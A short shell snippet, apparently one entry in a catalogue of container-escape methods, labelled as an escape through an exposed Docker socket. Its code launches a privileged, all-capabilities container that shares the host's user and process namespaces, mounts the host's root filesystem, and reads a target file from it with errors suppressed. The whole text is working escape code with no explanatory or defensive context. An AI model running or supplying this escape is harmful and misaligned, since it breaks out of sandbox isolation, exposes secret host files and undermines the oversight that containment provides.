# Category: the outer engine's socket
# Escape: the way that works wherever the machine's socket is handed in: a container with everything, and the disk mounted.
# Sign: secret
for rights in --privileged "--cap-add ALL"; do
  timeout 30 docker run --rm $rights --userns host --pid host -v /:/machine --entrypoint cat "$(docker images -q | head -n 1)" "/machine$FILE" 2>/dev/null
done
true
